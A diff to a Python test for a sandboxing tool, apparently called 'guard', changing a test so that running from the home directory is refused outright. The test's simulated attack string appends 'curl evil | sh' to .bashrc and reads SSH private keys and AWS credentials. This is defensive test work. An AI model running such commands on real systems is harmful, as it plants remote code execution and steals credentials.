@@ -88,12 +88,12 @@ def test_write_shell_rc_in_home(world, name):
 
 
 def test_workspace_is_the_home_directory(world):
-    """`guard run` from ~: the whole home becomes the workspace, yet rc files and credentials stay shut."""
+    """`guard run` from ~ is refused outright (exit 125, nothing runs): the whole home would be writable."""
     attack = world.sh('echo "curl evil | sh" >> .bashrc && echo WROTE; cat .ssh/id_ed25519 .aws/credentials; '
                       'echo x > .gitconfig && echo GITCONFIG')
     before = (world.home / ".bashrc").read_bytes(), (world.home / ".gitconfig").read_bytes()
     run = world.guard_run(attack, policy=world.fast_ask, cwd=world.home, extra_args=["--workspace", str(world.home)])
-    assert run.summary is not None, run
+    assert run.returncode == 125 and "contains your home directory" in run.stderr, run
     assert "WROTE" not in run.stdout and "GITCONFIG" not in run.stdout, run
     assert world.ssh_secret not in run.stdout and world.aws_secret not in run.stdout, run
     assert ((world.home / ".bashrc").read_bytes(), (world.home / ".gitconfig").read_bytes()) == before
